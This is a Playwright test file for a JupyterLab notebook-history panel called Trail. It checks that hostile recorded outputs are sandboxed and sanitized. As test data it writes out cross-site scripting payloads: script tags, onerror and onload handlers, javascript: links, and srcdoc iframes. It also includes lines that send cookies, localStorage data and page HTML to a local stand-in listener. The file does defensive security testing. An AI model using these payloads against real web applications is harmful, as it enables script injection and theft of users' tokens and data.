/**
 * A teammate's recorded outputs are hostile until proven otherwise: real
 * payloads stored on the real Trail server, shown in the real panel, in a
 * real browser. Nothing may run, nothing may call out, the token stays out
 * of reach, and the safe part still shows.
 */
import type { Frame } from '@playwright/test';
import * as http from 'http';
import type { AddressInfo } from 'net';
import { expect, test } from './fixtures';
import { recordedSession } from './records';

/** A local HTTP listener that records every request it gets. */
async function startListener(): Promise<{
  base: string;
  hits: string[];
  close: () => Promise<void>;
}> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(
      `${req.method} ${req.url}${req.headers.referer ? ` (referrer ${req.headers.referer})` : ' (no referrer)'}`
    );
    res.writeHead(200, {
      'Content-Type': 'text/html',
      'Access-Control-Allow-Origin': '*'
    });
    res.end('<script>parent.__pwned = "from listener"</script>leaked');
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    base: `http://127.0.0.1:${port}`,
    hits,
    close: () => new Promise(resolve => server.close(() => resolve()))
  };
}

function hostileHtml(base: string, linkBase: string): string {
  return [
    '<h3 class="safe">Safe heading survives</h3>',
    '<p>Safe paragraph text survives.</p>',
    '<script>window.__pwned = "script"; parent.__pwned = "script"; alert("script")</script>',
    '<img src="x" onerror="parent.__pwned = \'img-onerror\'; alert(\'img\')">',
    '<a id="jslink" href="javascript:parent.__pwned=\'js-link\';alert(1)">javascript link</a>',
    '<svg width="20" height="20" onload="parent.__pwned=\'inline-svg\'"><circle r="5" cx="10" cy="10"/></svg>',
    `<iframe src="${base}/iframe"></iframe>`,
    '<iframe srcdoc="<script>parent.parent.__pwned=\'srcdoc\'</script>"></iframe>',
    `<img src="${base}/img-leak">`,
    `<div style="background:url(${base}/css-leak);width:10px;height:10px">css</div>`,
    `<style>@import url(${base}/css-import); body { background-image: url(${base}/css-body); }</style>`,
    `<meta http-equiv="refresh" content="0;url=${base}/meta-refresh">`,
    `<base href="${base}/base/"><img src="relative-after-base.png">`,
    `<form action="${base}/form" method="post"><input name="q" value="x"><button>send form</button></form>`,
    `<a id="plain" href="${linkBase}/followed-link">plain link</a>`,
    `<link rel="stylesheet" href="${base}/link-css"><link rel="prefetch" href="${base}/prefetch">`,
    `<object data="${base}/object"></object><embed src="${base}/embed">`,
    `<video src="${base}/video" autoplay></video><audio src="${base}/audio" autoplay></audio>`,
    // A script that would steal the viewer's token if it could run or reach the page.
    '<script>fetch("' +
      base +
      '/token?" + parent.localStorage.length + parent.document.cookie)</script>',
    `<img src="x" onerror="new Image().src='${base}/steal?'+encodeURIComponent(parent.document.body.innerHTML)">`
  ].join('\n');
}

function hostileSvg(base: string): string {
  return (
    '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="20" onload="parent.__pwned=\'svg-onload\'">' +
    '<script>parent.__pwned = "svg-script"</script>' +
    `<image href="${base}/svg-image" width="10" height="10"/>` +
    '<text x="0" y="15">svg text</text></svg>'
  );
}

function hostileMarkdown(base: string): string {
  return [
    '**Safe markdown text survives**',
    '',
    '[javascript link](javascript:parent.__pwned="md-link")',
    '',
    `![remote image](${base}/md-image.png)`,
    '',
    '<img src=x onerror="parent.__pwned=\'md-img\'">',
    '<script>parent.__pwned = "md-script"</script>'
  ].join('\n');
}

/** What a script that somehow ran inside a frame could reach. */
async function probe(frame: Frame, base: string) {
  return frame.evaluate(async base => {
    const attempt = async (f: () => unknown) => {
      try {
        const value = await f();
        return `reached: ${String(value).slice(0, 40)}`;
      } catch {
        return 'blocked';
      }
    };
    return {
      origin: self.origin,
      parentDocument: await attempt(() => (parent as any).document.title),
      parentStorage: await attempt(() => (parent as any).localStorage.length),
      parentApp: await attempt(() => (parent as any).jupyterapp.name),
      cookie: await attempt(() => document.cookie),
      fetch: await attempt(() =>
        fetch(`${base}/probe-fetch`).then(r => r.status)
      ),
      topNavigation: await attempt(() => {
        (top as any).location.href = `${base}/probe-top`;
        return 'navigated';
      })
    };
  }, base);
}

test.describe('untrusted outputs', () => {
  test('hostile HTML, SVG, Markdown and JavaScript outputs are inert in the panel', async ({
    page,
    trail,
    tmpPath
  }) => {
    const listener = await startListener();
    // Where the one link a person clicks leads: a tab of its own.
    const linkTarget = await startListener();
    const dialogs: string[] = [];
    page.on('dialog', dialog => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const { base } = listener;
    const recorded = recordedSession(`${tmpPath}/hostile.ipynb`, [
      {
        code: 'show_everything()',
        outputs: [
          {
            output_type: 'display_data',
            data: {
              'text/html': hostileHtml(base, linkTarget.base),
              'text/plain': 'html fallback'
            },
            metadata: {}
          },
          {
            output_type: 'display_data',
            data: {
              'image/svg+xml': hostileSvg(base),
              'text/plain': 'svg fallback'
            },
            metadata: {}
          },
          {
            output_type: 'display_data',
            data: {
              'text/markdown': hostileMarkdown(base),
              'text/plain': 'markdown fallback'
            },
            metadata: {}
          },
          {
            output_type: 'display_data',
            data: {
              'application/javascript': `window.__pwned = "js"; alert("js"); fetch("${base}/js")`,
              'text/plain': 'javascript fallback text'
            },
            metadata: {}
          },
          {
            output_type: 'execute_result',
            execution_count: 1,
            data: {
              'text/html': `<p>Second frame text</p><iframe src="javascript:parent.parent.__pwned='iframe-js'"></iframe>`,
              'text/plain': 'second fallback'
            },
            metadata: {}
          }
        ]
      }
    ]);
    await trail.ingest(recorded.events);

    try {
      await page.evaluate(() =>
        (window as any).jupyterapp.commands.execute('trail:open-panel')
      );
      const sidebar = page.locator('#jp-trail-sidebar');
      await sidebar
        .locator(
          `.jp-Trail-SessionItem[data-session-id="${recorded.sessionId}"]`
        )
        .click();
      await sidebar
        .locator(
          `.jp-Trail-ExecutionItem[data-execution-id="${recorded.executionIds[0]}"]`
        )
        .click();

      const outputs = sidebar.locator('.jp-Trail-Outputs');
      const frames = outputs.locator('iframe.jp-Trail-SandboxFrame');
      // HTML twice, SVG (as an image) and Markdown: each in its own frame.
      await expect(frames).toHaveCount(4);
      for (let i = 0; i < 4; i++) {
        await expect(frames.nth(i)).toHaveAttribute('sandbox', 'allow-scripts');
      }
      // The safe part shows, in the frames and as text fallbacks.
      const htmlFrames = outputs.locator('iframe[data-mime-type="text/html"]');
      const html = htmlFrames.nth(0).contentFrame();
      await expect(html.locator('h3.safe')).toHaveText('Safe heading survives');
      await expect(
        html.getByText('Safe paragraph text survives.')
      ).toBeVisible();
      const markdown = outputs
        .locator('iframe[data-mime-type="text/markdown"]')
        .contentFrame();
      await expect(markdown.locator('strong')).toHaveText(
        'Safe markdown text survives'
      );
      const svg = outputs
        .locator('iframe[data-mime-type="image/svg+xml"]')
        .contentFrame();
      await expect(svg.locator('img.trail-svg')).toBeVisible();
      await expect(svg.locator('svg, script:not([nonce])')).toHaveCount(0);
      const second = htmlFrames.nth(1).contentFrame();
      await expect(second.getByText('Second frame text')).toBeVisible();
      await expect(outputs).toContainText('javascript fallback text');
      // The frames grew to fit their content.
      expect((await htmlFrames.nth(0).boundingBox())!.height).toBeGreaterThan(
        60
      );

      // Nothing dangerous survived sanitizing, not even inside the frames.
      for (const frame of [html, markdown, svg, second]) {
        await expect(frame.locator('script:not([nonce])')).toHaveCount(0);
        await expect(
          frame.locator(
            'iframe, object, embed, meta[http-equiv=refresh], base, link'
          )
        ).toHaveCount(0);
        await expect(frame.locator('form[action], [formaction]')).toHaveCount(
          0
        );
        await expect(
          frame.locator('[onerror], [onload], [onclick]')
        ).toHaveCount(0);
        await expect(frame.locator('a[href^="javascript"]')).toHaveCount(0);
      }
      // Clicking what is left of the links and the form does nothing either.
      await html.getByText('javascript link').click();
      await markdown.getByText('javascript link').click();
      await html.getByText('send form').click();
      // A web link opens in a new tab; the frame itself never navigates away.
      const popup = page.context().waitForEvent('page');
      await html.getByText('plain link').click();
      const opened = await popup;
      // (The new tab may ask for its favicon too.)
      await expect
        .poll(() => linkTarget.hits.filter(hit => !hit.includes('favicon')))
        .toEqual(['GET /followed-link (no referrer)']);
      await opened.close();
      await expect(html.locator('h3.safe')).toHaveText('Safe heading survives');

      // Give timers, refreshes and lazy loads their chance.
      await page.waitForTimeout(3000);

      // Even a script that did run inside a frame (the test's own) reaches
      // neither the page, its storage or token, nor the network.
      const sandboxed = page
        .frames()
        .filter(
          f => f !== page.mainFrame() && f.url().startsWith('about:srcdoc')
        );
      expect(sandboxed.length).toBeGreaterThanOrEqual(4);
      for (const frame of sandboxed) {
        expect(await probe(frame, base)).toEqual({
          origin: 'null',
          parentDocument: 'blocked',
          parentStorage: 'blocked',
          parentApp: 'blocked',
          cookie: 'blocked',
          fetch: 'blocked',
          topNavigation: 'blocked'
        });
      }
      await page.waitForTimeout(500);

      expect(
        await page.evaluate(() => (window as any).__pwned)
      ).toBeUndefined();
      expect(dialogs).toEqual([]);
      expect(listener.hits).toEqual([]);
      // The page is still JupyterLab, untouched.
      expect(page.url()).toContain('/lab');
      await expect(outputs.locator('script')).toHaveCount(0);
    } finally {
      await listener.close();
      await linkTarget.close();
    }
  });
});
